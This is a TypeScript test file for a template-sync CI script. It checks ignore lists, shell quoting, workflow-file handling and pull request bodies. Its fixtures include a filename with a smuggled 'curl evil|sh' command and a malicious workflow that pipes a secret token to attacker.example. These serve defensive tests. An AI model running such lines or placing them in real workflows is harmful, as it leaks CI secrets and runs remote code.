import t, { type Test } from 'tap';
import { spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { createRun } from '../helpers/recorder.js';
import { REPO_ROOT } from '../helpers/config-dir.js';
import { runCli } from '../../../scripts/shared/cli.js';
import { createMain } from '../../../scripts/ci/template-sync.js';
import { formatSyncBody, isIgnored, parseIgnoreList, planTemplateSync } from '../../../scripts/ci/template-sync-plan.js';

const main = createMain();
// The template's list (a fork adds its own lines to .github/template-sync-ignore; check:template keeps this copy in step).
const IGNORE_LIST = readFileSync(join(REPO_ROOT, 'test', 'fixtures', 'template-sync-ignore'), 'utf8');
const patterns = parseIgnoreList(IGNORE_LIST);

t.test('the template\'s ignore list keeps the user\'s files out of every sync, and the template\'s own in it', (t) => {
  for (const path of ['config/deploy.yaml', 'config/parameters.yaml', 'config/function.yaml', 'config/skill.yaml', 'skill-package/interactionModels/custom/en-US.json', '.github/template-sync-ignore', 'LICENSE']) {
    t.ok(isIgnored(path, patterns), path);
  }
  // README.md and SETUP.md are the template's docs: synced unless changed here (see below).
  for (const path of ['scripts/deploy/deploy-lambda.ts', 'src/handler.ts', 'package.json', 'package-lock.json', '.github/workflows/deploy.yml', 'configuration.md', 'config/aws/bootstrap.yaml', 'README.md', 'SETUP.md']) t.notOk(isIgnored(path, patterns), path);
  t.ok(isIgnored('docs/a.md', ['docs/*.md']));
  t.notOk(isIgnored('docs/x/a.md', ['docs/*.md']), '* stays within one segment');
  t.end();
});

t.test('the plan takes changed template files, keeps files only here, and never takes a workflow', (t) => {
  const changes = [
    { status: 'M' as const, path: 'src/handler.ts' },
    { status: 'A' as const, path: 'scripts/new.ts' },
    { status: 'M' as const, path: 'config/skill.yaml' },
    { status: 'D' as const, path: 'my-notes.md' },
    { status: 'M' as const, path: '.github/workflows/deploy.yml' },
  ];
  t.same(planTemplateSync([...changes, { status: 'A', path: '.github/Workflows/new.yml' }], patterns), {
    take: ['src/handler.ts', 'scripts/new.ts'],
    onlyHere: ['my-notes.md'],
    ignored: ['config/skill.yaml'],
    workflows: ['.github/workflows/deploy.yml', '.github/Workflows/new.yml'],
    changedHere: [],
  });
  const body = formatSyncBody(planTemplateSync(changes, patterns), 'octo/template', '0123456789abcdef');
  t.match(body, /Changes from the template \[octo\/template\]\(https:\/\/github\.com\/octo\/template\) at `0123456`/);
  t.match(body, /Workflow files to apply yourself[\s\S]*`\.github\/workflows\/deploy\.yml`/);
  t.match(body, /git fetch --depth=1 https:\/\/github\.com\/octo\/template\.git 0123456789abcdef\ngit diff HEAD FETCH_HEAD -- \.github\/workflows\/deploy\.yml\n/);
  const odd = formatSyncBody(planTemplateSync([{ status: 'A', path: ".github/workflows/x.yml;curl evil|sh'" }], patterns), 'octo/template', '0123456789abcdef');
  t.match(odd, /git checkout FETCH_HEAD -- '\.github\/workflows\/x\.yml;curl evil\|sh'\\''' *\n/, 'a name the template chose is one quoted shell word');
  t.match(body, /Only in your repository[\s\S]*`my-notes\.md`/);
  t.end();
});

/** A git repository with these files committed. */
function repo(files: Record<string, string>): string {
  const dir = mkdtempSync(join(tmpdir(), 'template-sync-'));
  spawnSync('git', ['init', '-q', '-b', 'main'], { cwd: dir });
  commit(dir, files);
  return dir;
}

/** Writes and commits these files in `dir`. */
function commit(dir: string, files: Record<string, string>): void {
  const git = (...args: string[]) => spawnSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', ...args], { cwd: dir, encoding: 'utf8' });
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(dirname(join(dir, path)), { recursive: true });
    writeFileSync(join(dir, path), content);
  }
  git('add', '-A');
  git('commit', '-qm', 'change');
}

t.test('a sync against a local template commits only the template\'s files on the template-sync branch', async (t) => {
  const ignore = IGNORE_LIST;
  const template = repo({ 'src/a.ts': 'new code\n', 'config/skill.yaml': 'assistant_name: Jarvis\n', '.github/template-sync-ignore': ignore, 'scripts/b.ts': 'added upstream\n' });
  const mine = repo({ 'src/a.ts': 'old code\n', 'config/skill.yaml': 'assistant_name: Friday\n', '.github/template-sync-ignore': ignore, 'notes.md': 'mine\n' });
  const cwd = process.cwd();
  process.chdir(mine);
  t.teardown(() => process.chdir(cwd));

  const dry = createRun({ GITHUB_REPOSITORY: 'me/mine' });
  t.equal(await runCli('template-sync', main, ['--dry-run', '--url', template, '--template', 'octo/template'], dry.env, dry.io), 0, dry.io.text());
  t.match(dry.io.text(), /take {5}scripts\/b\.ts\n {2}take {5}src\/a\.ts[\s\S]*ignore {3}config\/skill\.yaml[\s\S]*keep {5}notes\.md \(only in this repository\)[\s\S]*Dry run: nothing committed\./);

  const real = createRun({ GITHUB_REPOSITORY: 'me/mine' });
  t.equal(await runCli('template-sync', main, ['--no-push', '--url', template, '--template', 'octo/template'], real.env, real.io), 0, real.io.text());
  const show = (path: string) => spawnSync('git', ['show', `template-sync:${path}`], { cwd: mine, encoding: 'utf8' }).stdout;
  t.equal(show('src/a.ts'), 'new code\n');
  t.equal(show('scripts/b.ts'), 'added upstream\n');
  t.equal(show('config/skill.yaml'), 'assistant_name: Friday\n', 'config/ is never touched');
  t.equal(show('notes.md'), 'mine\n', 'files only here are kept');
  t.match(spawnSync('git', ['log', '-1', '--format=%s'], { cwd: mine, encoding: 'utf8' }).stdout, /^Sync with the template octo\/template \([0-9a-f]{7}\)/);

  const again = createRun({ GITHUB_REPOSITORY: 'me/mine' });
  t.equal(await runCli('template-sync', main, ['--url', template, '--template', 'octo/template'], again.env, again.io), 0);
  t.match(again.io.text(), /Up to date with octo\/template/);
});

t.test('without --template, the template is the one GitHub recorded for this repository (gh api)', async (t) => {
  const template = repo({ 'src/a.ts': 'same\n' });
  const mine = repo({ 'src/a.ts': 'same\n' });
  const bin = mkdtempSync(join(tmpdir(), 'fake-gh-'));
  // A fake gh answers `gh api repos/me/mine --jq …` with the template's name, as GitHub's API would.
  writeFileSync(join(bin, 'gh'), '#!/bin/sh\nif [ "$2" = "repos/me/mine" ]; then echo octo/template; fi\n');
  chmodSync(join(bin, 'gh'), 0o755);
  const cwd = process.cwd();
  process.chdir(mine);
  t.teardown(() => process.chdir(cwd));
  const found = createRun({ GITHUB_REPOSITORY: 'me/mine', PATH: `${bin}:${process.env.PATH ?? ''}` });
  // The fetch goes to github.com, which the test must not reach: a local mirror stands in through git's url rewriting.
  found.env.GIT_CONFIG_COUNT = '1';
  found.env.GIT_CONFIG_KEY_0 = `url.${template}.insteadOf`;
  found.env.GIT_CONFIG_VALUE_0 = 'https://github.com/octo/template.git';
  t.equal(await runCli('template-sync', main, [], found.env, found.io), 0, found.io.text());
  t.match(found.io.text(), /Fetching octo\/template \(main\)…[\s\S]*Up to date with octo\/template/);
  const none = createRun({ GITHUB_REPOSITORY: 'me/other', PATH: `${bin}:${process.env.PATH ?? ''}` });
  t.equal(await runCli('template-sync', main, [], none.env, none.io), 1);
  t.match(none.io.lines.at(-1), /this repository was not created from a template: set TEMPLATE_REPOSITORY/);
});

t.test('failures are one line, and pushing needs the token', async (t) => {
  const template = repo({ 'src/a.ts': 'x\n' });
  const mine = repo({ 'src/a.ts': 'y\n' });
  const cwd = process.cwd();
  process.chdir(mine);
  t.teardown(() => process.chdir(cwd));
  const noToken = createRun({ GITHUB_REPOSITORY: 'me/mine' });
  t.equal(await runCli('template-sync', main, ['--url', template], noToken.env, noToken.io), 1);
  t.match(noToken.io.lines.at(-1), /pushing needs GITHUB_REPOSITORY and GH_TOKEN/);
  const missing = createRun({});
  t.equal(await runCli('template-sync', main, ['--url', join(template, 'nope')], missing.env, missing.io), 1);
  t.match(missing.io.lines.at(-1), /template-sync: git fetch .*nope failed: /);
  const badName = createRun({ TEMPLATE_REPOSITORY: 'not a slug' });
  t.equal(await runCli('template-sync', main, [], badName.env, badName.io), 1);
  t.match(badName.io.lines.at(-1), /template "not a slug" is not OWNER\/REPO/);
  const help = createRun({});
  t.equal(await runCli('template-sync', main, ['--help'], help.env, help.io), 0);
  const bad = createRun({});
  t.equal(await runCli('template-sync', main, ['--nope'], bad.env, bad.io), 1);
  t.match(bad.io.lines.at(-1), /usage: npm run template-sync/);
});

/**
 * A fake `gh` for `pr list`, `pr create` and `workflow run`: no pull request is open, create records
 * its arguments (one per line), and `workflow run` records its own (in `<record>.dispatch`) and
 * answers as GitHub does: with `dispatch: '422'` as for a workflow file without a
 * `workflow_dispatch` trigger, with `'403'` as for a token without `actions: write` (gh prints
 * GitHub's message and exits 1).
 *
 * @see https://cli.github.com/manual/gh_pr_list
 * @see https://cli.github.com/manual/gh_pr_create
 * @see https://cli.github.com/manual/gh_workflow_run
 * @see https://docs.github.com/en/rest/actions/workflows#create-a-workflow-dispatch-event
 */
function fakeGh(record: string, dispatch: 'ok' | '422' | '403' = 'ok'): string {
  const bin = mkdtempSync(join(tmpdir(), 'fake-gh-'));
  const refusal = {
    ok: '',
    '422': `echo "could not create workflow dispatch event: HTTP 422: Workflow does not have 'workflow_dispatch' trigger (https://api.github.com/repos/me/mine/actions/workflows/ci.yml/dispatches)" >&2; exit 1`,
    '403': `echo "could not create workflow dispatch event: HTTP 403: Resource not accessible by integration (https://api.github.com/repos/me/mine/actions/workflows/ci.yml/dispatches)" >&2; exit 1`,
  }[dispatch];
  writeFileSync(
    join(bin, 'gh'),
    `#!/bin/sh\nif [ "$1 $2" = "pr create" ]; then printf '%s\\n' "$@" > '${record}'; fi\nif [ "$1 $2" = "workflow run" ]; then printf '%s\\n' "$@" > '${record}.dispatch'; ${refusal}\nfi\n`,
  );
  chmodSync(join(bin, 'gh'), 0o755);
  return bin;
}

/** A sync run that pushes to a local bare repository standing in for github.com/me/mine. */
async function syncAndPush(t: Test, template: string, mine: string, dispatch: 'ok' | '422' | '403' = 'ok') {
  const bare = mkdtempSync(join(tmpdir(), 'template-sync-remote-'));
  spawnSync('git', ['init', '-q', '--bare', bare]);
  const record = join(mkdtempSync(join(tmpdir(), 'template-sync-gh-')), 'pr-create');
  const cwd = process.cwd();
  process.chdir(mine);
  t.teardown(() => process.chdir(cwd));
  const run = createRun({ GITHUB_REPOSITORY: 'me/mine', GH_TOKEN: 'ghs_workflowToken', PATH: `${fakeGh(record, dispatch)}:${process.env.PATH ?? ''}` });
  Object.assign(run.env, { GIT_CONFIG_COUNT: '1', GIT_CONFIG_KEY_0: `url.${bare}.insteadOf`, GIT_CONFIG_VALUE_0: 'https://x-access-token:ghs_workflowToken@github.com/me/mine.git' });
  const code = await runCli('template-sync', main, ['--url', template, '--template', 'octo/template'], run.env, run.io);
  const read = (path: string) => (existsSync(path) ? readFileSync(path, 'utf8') : '');
  return {
    code,
    text: run.io.text(),
    summary: run.summary(),
    body: read(record),
    dispatched: read(`${record}.dispatch`),
    pushed: (path: string) => spawnSync('git', ['--git-dir', bare, 'show', `template-sync:${path}`], { encoding: 'utf8' }).stdout,
  };
}

t.test('upstream workflow files, changed or added, never reach a branch of your repository, whatever token is set', async (t) => {
  const evil = 'on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ secrets.TEMPLATE_SYNC_TOKEN }} | curl -d @- https://attacker.example\n';
  const template = repo({ 'src/a.ts': 'new code\n', '.github/workflows/deploy.yml': 'upstream deploy\n', '.github/workflows/evil.yml': evil, '.github/template-sync-ignore': IGNORE_LIST });
  const mine = repo({ 'src/a.ts': 'old code\n', '.github/workflows/deploy.yml': 'my deploy\n', '.github/template-sync-ignore': IGNORE_LIST });
  const bare = mkdtempSync(join(tmpdir(), 'template-sync-remote-'));
  spawnSync('git', ['init', '-q', '--bare', bare]);
  const record = join(mkdtempSync(join(tmpdir(), 'template-sync-gh-')), 'pr-create');
  const cwd = process.cwd();
  process.chdir(mine);
  t.teardown(() => process.chdir(cwd));
  // What earlier versions set with TEMPLATE_SYNC_TOKEN: a personal token and SYNC_WORKFLOWS=true.
  const run = createRun({ GITHUB_REPOSITORY: 'me/mine', GH_TOKEN: 'ghp_personal', SYNC_WORKFLOWS: 'true', PATH: `${fakeGh(record)}:${process.env.PATH ?? ''}` });
  // The push goes to github.com: a local bare repository stands in through git's url rewriting.
  Object.assign(run.env, { GIT_CONFIG_COUNT: '1', GIT_CONFIG_KEY_0: `url.${bare}.insteadOf`, GIT_CONFIG_VALUE_0: 'https://x-access-token:ghp_personal@github.com/me/mine.git' });
  t.equal(await runCli('template-sync', main, ['--url', template, '--template', 'octo/template'], run.env, run.io), 0, run.io.text());
  const pushed = (path: string) => spawnSync('git', ['--git-dir', bare, 'show', `template-sync:${path}`], { encoding: 'utf8' });
  t.equal(pushed('src/a.ts').stdout, 'new code\n', 'the template\'s code is on the branch');
  t.equal(pushed('.github/workflows/deploy.yml').stdout, 'my deploy\n', 'a changed workflow is not');
  t.not(pushed('.github/workflows/evil.yml').status, 0, 'an added workflow is not');
  t.match(run.io.text(), /skip {5}\.github\/workflows\/deploy\.yml \(workflow: listed in the pull request for you to apply\)/);
  const created = readFileSync(record, 'utf8');
  t.match(created, /Workflow files to apply yourself\*\* \(2;[\s\S]*`\.github\/workflows\/deploy\.yml`\n- `\.github\/workflows\/evil\.yml`/, 'the pull request lists both for review');
  t.notMatch(created, /curl/, 'and does not carry their content');
});

t.test('when only workflow files differ, the run says so instead of "up to date"', async (t) => {
  const template = repo({ 'src/a.ts': 'same\n', '.github/workflows/ci.yml': 'upstream\n' });
  const mine = repo({ 'src/a.ts': 'same\n', '.github/workflows/ci.yml': 'mine\n' });
  const cwd = process.cwd();
  process.chdir(mine);
  t.teardown(() => process.chdir(cwd));
  const run = createRun({ GITHUB_REPOSITORY: 'me/mine' });
  t.equal(await runCli('template-sync', main, ['--url', template, '--template', 'octo/template'], run.env, run.io), 0, run.io.text());
  t.match(run.io.text(), /Up to date with octo\/template \([0-9a-f]{7}\), except the workflow files to apply yourself\./);
  t.match(run.summary(), /Workflow files to apply yourself\*\* \(1;[\s\S]*git checkout FETCH_HEAD -- \.github\/workflows\/ci\.yml/);
  t.notMatch(run.summary(), /starts the CI workflow/, 'no pull request, so no word of its CI');
  t.equal(spawnSync('git', ['branch', '--list', 'template-sync'], { cwd: mine, encoding: 'utf8' }).stdout, '', 'nothing committed');
});

t.test('README.md and SETUP.md are updated while your copy is one the template had, else listed as changed on your side', async (t) => {
  const template = repo({ 'src/a.ts': 'v1\n', 'README.md': 'readme v1\n', 'SETUP.md': 'setup v1\n', '.github/template-sync-ignore': IGNORE_LIST });
  // The user's repository is made from the template as it was then.
  const mine = repo({ 'src/a.ts': 'v1\n', 'README.md': 'readme v1\n', 'SETUP.md': 'setup v1\n', '.github/template-sync-ignore': IGNORE_LIST });
  commit(mine, { 'SETUP.md': 'setup v1, with my notes\n' });
  commit(template, { 'src/a.ts': 'v2\n', 'README.md': 'readme v2\n', 'SETUP.md': 'setup v2\n' });
  const result = await syncAndPush(t, template, mine);
  t.equal(result.code, 0, result.text);
  t.equal(result.pushed('README.md'), 'readme v2\n', 'an untouched README is the template\'s newest');
  t.equal(result.pushed('SETUP.md'), 'setup v1, with my notes\n', 'an edited SETUP is left alone');
  t.match(result.text, /keep {5}SETUP\.md \(changed on your side, not updated\)/);
  t.match(result.body, /\*\*Taken from the template\*\* \(2\):\n- `README\.md`\n- `src\/a\.ts`/);
  t.match(result.body, /\*\*Changed on your side, not updated\*\* \(1;[^\n]*\n- `SETUP\.md`\n/);
  t.match(result.body, /git diff HEAD FETCH_HEAD -- SETUP\.md/, 'with the command that compares them');
});

t.test('a changed bootstrap template puts "rerun the bootstrap command" at the top; CI is started on the branch with workflow_dispatch', async (t) => {
  const template = repo({ 'config/aws/bootstrap.yaml': 'Resources: {}\n', 'src/a.ts': 'x\n' });
  const mine = repo({ 'config/aws/bootstrap.yaml': 'Resources: {}\n', 'src/a.ts': 'x\n' });
  commit(template, { 'config/aws/bootstrap.yaml': 'Resources: { Role: {} }\n' });
  const result = await syncAndPush(t, template, mine);
  t.equal(result.code, 0, result.text);
  t.match(result.body, /--body\n> \[!IMPORTANT\]\n> \*\*`config\/aws\/bootstrap\.yaml` changed: rerun the bootstrap command from any Deploy run's summary after merging\*\*/, 'the first line of the body');
  const quiet = formatSyncBody(planTemplateSync([{ status: 'M', path: 'src/a.ts' }], patterns), 'octo/template', '0123456789abcdef');
  t.notMatch(quiet, /bootstrap/, 'and only then');
  // A pull request opened with GITHUB_TOKEN starts no workflow; workflow_dispatch is the exception.
  t.equal(result.dispatched, 'workflow\nrun\nci.yml\n--repo\nme/mine\n--ref\ntemplate-sync\n');
  t.match(result.body, /starts no workflow, so the sync starts the CI workflow \(`ci\.yml`\) on this branch through `workflow_dispatch`/);
  t.match(result.summary, /CI \(`ci\.yml`\) started on `template-sync`\./);
});

t.test('GitHub refusing the dispatch leaves the pull request open and says how to get the checks', async (t) => {
  const old = await syncAndPush(t, repo({ 'src/a.ts': 'new\n' }), repo({ 'src/a.ts': 'old\n' }), '422');
  t.equal(old.code, 0, 'the pull request is open: not a failed run');
  t.match(old.text, /warning: CI was not started on template-sync \(could not create workflow dispatch event: HTTP 422[^)]*\)[^)]*\): this repository's ci\.yml has no workflow_dispatch trigger yet: apply the template's workflow files/);
  t.match(old.summary, /\*\*CI was not started\*\* on `template-sync`: .*close and reopen the pull request/);
  const denied = await syncAndPush(t, repo({ 'src/a.ts': 'new\n' }), repo({ 'src/a.ts': 'old\n' }), '403');
  t.equal(denied.code, 0);
  t.match(denied.text, /HTTP 403: Resource not accessible by integration.*needs permissions actions: write/);
});
